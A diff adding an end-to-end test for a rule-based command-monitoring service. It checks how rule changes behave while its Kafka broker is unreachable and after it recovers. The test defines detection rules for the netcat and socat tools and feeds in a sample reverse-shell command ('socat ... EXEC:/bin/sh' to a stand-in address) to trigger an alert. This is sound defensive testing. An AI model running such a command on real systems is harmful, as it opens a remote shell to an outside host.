@@ -1,0 +1,200 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { Kafka } from 'kafkajs';
+import { allDocuments, uniqueIndex } from '../support/elasticsearch';
+import { createTopic, kafkaAt, uniqueName } from '../support/kafka';
+import { ServiceProcess } from '../support/service';
+import { PrivateKafka } from '../support/stack';
+import { waitFor } from '../support/wait-for';
+
+/**
+ * RULES_STORE=kafka with Kafka unreachable: a rule change answers 503 with a
+ * message (it does not hang, and is not a 500), nothing of it is applied then or
+ * later, the running rule set stays, and changes work again once Kafka is back.
+ * The test runs a broker of its own (as kafka-outage does) so that stopping it
+ * disturbs no other test; port 9292, not kafka-outage's 9192, so both may run.
+ */
+const API_KEY = 'e2e-rules-outage-key-8b2d47c1e09a5f36';
+const TOPIC_TIMEOUT_MS = 3_000;
+/** A request that has not answered by then hangs: far beyond RULES_TOPIC_TIMEOUT_MS. */
+const HANG_MS = TOPIC_TIMEOUT_MS * 10;
+const RULE_ID = 'ACME-RO-0001';
+
+function ruleBody(name: string, program: string): Record<string, unknown> {
+  return {
+    id: RULE_ID,
+    name,
+    severity: 'high',
+    conditions: { all: [{ fact: 'programs', operator: 'contains', value: program }] },
+  };
+}
+
+interface Answer {
+  status: number;
+  body: Record<string, unknown>;
+  etag: string | null;
+}
+
+async function call(
+  service: ServiceProcess,
+  method: string,
+  path: string,
+  body?: unknown,
+  ifMatch?: string,
+): Promise<Answer> {
+  const response = await fetch(`${service.baseUrl}${path}`, {
+    method,
+    signal: AbortSignal.timeout(HANG_MS),
+    headers: {
+      authorization: `Bearer ${API_KEY}`,
+      ...(body === undefined ? {} : { 'content-type': 'application/json' }),
+      ...(ifMatch === undefined ? {} : { 'if-match': ifMatch }),
+    },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+  const text = await response.text();
+  return {
+    status: response.status,
+    body: text === '' ? {} : (JSON.parse(text) as Record<string, unknown>),
+    etag: response.headers.get('etag'),
+  };
+}
+
+/** Number of records of `topic` (one partition) whose key is `key`. */
+async function recordsOfKey(kafka: Kafka, topic: string, key: string): Promise<number> {
+  const admin = kafka.admin();
+  await admin.connect();
+  const end = Number((await admin.fetchTopicOffsets(topic))[0]?.high ?? '0');
+  await admin.disconnect();
+  const consumer = kafka.consumer({ groupId: uniqueName('e2e-rules-outage-reader') });
+  await consumer.connect();
+  let count = 0;
+  try {
+    await consumer.subscribe({ topics: [topic], fromBeginning: true });
+    await new Promise<void>((resolve, reject) => {
+      const timer = setTimeout(() => reject(new Error(`${topic} not read to ${end}`)), 60_000);
+      void consumer.run({
+        eachMessage: ({ message }) => {
+          if (message.key?.toString() === key) count += 1;
+          if (Number(message.offset) >= end - 1) {
+            clearTimeout(timer);
+            resolve();
+          }
+          return Promise.resolve();
+        },
+      });
+    });
+  } finally {
+    await consumer.disconnect();
+  }
+  return count;
+}
+
+describe('RULES_STORE=kafka: rule changes while Kafka is unreachable', () => {
+  const broker = new PrivateKafka(9292);
+  const kafka = kafkaAt(broker.broker);
+  const rulesTopic = uniqueName('e2e-rules-outage');
+  const input = uniqueName('e2e-rules-outage-input');
+  const alertsIndex = uniqueIndex('e2e-rules-outage-alerts');
+  let service: ServiceProcess | undefined;
+
+  beforeAll(() => {
+    broker.start();
+  });
+
+  afterAll(async () => {
+    await service?.stop();
+    broker.stop();
+  });
+
+  it('answers 503 within RULES_TOPIC_TIMEOUT_MS, applies nothing, keeps the rules, and writes again once Kafka is back', async () => {
+    await createTopic(input, 1, {}, kafka);
+    service = new ServiceProcess({
+      KAFKA_BROKERS: broker.broker,
+      KAFKA_TOPIC: input,
+      KAFKA_GROUP_ID: uniqueName('e2e-rules-outage-group'),
+      KAFKA_DLQ_TOPIC: `${input}.dlq`,
+      KAFKA_ALERTS_TOPIC: '',
+      ES_ALERTS_INDEX: alertsIndex,
+      ES_COMMANDS_INDEX: '',
+      RULES_STORE: 'kafka',
+      RULES_TOPIC: rulesTopic,
+      RULES_TOPIC_TIMEOUT_MS: String(TOPIC_TIMEOUT_MS),
+      API_KEY,
+    }).start();
+    await service.waitReady(120_000);
+    const created = await call(service, 'POST', '/rules', ruleBody('netcat', 'nc'));
+    expect(created.status, JSON.stringify(created.body)).toBe(201);
+    const version = created.etag!;
+    const before = await call(service, 'GET', '/rules/status');
+
+    broker.stop();
+    const sentAt = Date.now();
+    const attempts: [string, Promise<Answer>][] = [
+      ['PUT', call(service, 'PUT', `/rules/${RULE_ID}`, ruleBody('socat', 'socat'), version)],
+      ['PATCH', call(service, 'PATCH', `/rules/${RULE_ID}`, { name: 'patched' })],
+      ['DELETE', call(service, 'DELETE', `/rules/${RULE_ID}`, undefined, version)],
+      ['POST', call(service, 'POST', '/rules', { ...ruleBody('other', 'x'), id: 'ACME-RO-0002' })],
+    ];
+    for (const [method, answer] of attempts) {
+      const { status, body } = await answer;
+      expect(status, `${method}: ${JSON.stringify(body)}`).toBe(503);
+      expect(String(body['message']), method).toMatch(/Kafka|rule topic/);
+    }
+    console.log(
+      `rule changes with Kafka down: four 503s within ${Date.now() - sentAt} ms (RULES_TOPIC_TIMEOUT_MS ${TOPIC_TIMEOUT_MS})`,
+    );
+    // The rule set stays what it was, and the rule at its version.
+    const during = await call(service, 'GET', '/rules/status');
+    expect(during.body['hash']).toBe(before.body['hash']);
+    const rule = await call(service, 'GET', `/rules/${RULE_ID}`);
+    expect(rule.status).toBe(200);
+    expect(rule.etag).toBe(version);
+    expect((rule.body['rule'] as { name: string }).name).toBe('netcat');
+
+    broker.start();
+    // Once the replica follows the topic again, nothing refused reached the log.
+    await service.waitReady(180_000);
+    expect(await recordsOfKey(kafka, rulesTopic, RULE_ID)).toBe(1);
+    const after = await call(service, 'GET', `/rules/${RULE_ID}`);
+    expect(after.etag).toBe(version);
+    // Writes work again: the conditional PUT on the version from before the outage.
+    const replaced = await call(
+      service,
+      'PUT',
+      `/rules/${RULE_ID}`,
+      ruleBody('socat', 'socat'),
+      version,
+    );
+    expect(replaced.status, `${JSON.stringify(replaced.body)}\n${service.logs()}`).toBe(200);
+    expect(replaced.etag).not.toBe(version);
+    expect(await call(service, 'GET', '/rules/ACME-RO-0002')).toMatchObject({ status: 404 });
+    expect(await recordsOfKey(kafka, rulesTopic, RULE_ID)).toBe(2);
+    // The pipeline runs the new version: socat alerts.
+    const producer = kafka.producer();
+    await producer.connect();
+    await producer.send({
+      topic: input,
+      acks: -1,
+      messages: [
+        {
+          value: JSON.stringify({
+            timestamp: new Date().toISOString(),
+            user: 'alice',
+            host: 'web-1.example.internal',
+            command: 'socat TCP:198.51.100.7:443 EXEC:/bin/sh',
+          }),
+        },
+      ],
+    });
+    await producer.disconnect();
+    const alerts = await waitFor(
+      `an alert of ${RULE_ID} in ${alertsIndex}`,
+      () => allDocuments<{ rule: { id: string; name: string } }>(alertsIndex).catch(() => []),
+      (docs) => docs.length > 0,
+      { timeoutMs: 120_000 },
+    );
+    expect(alerts.map((a) => a.source.rule)).toEqual([
+      expect.objectContaining({ id: RULE_ID, name: 'socat' }),
+    ]);
+  });
+});
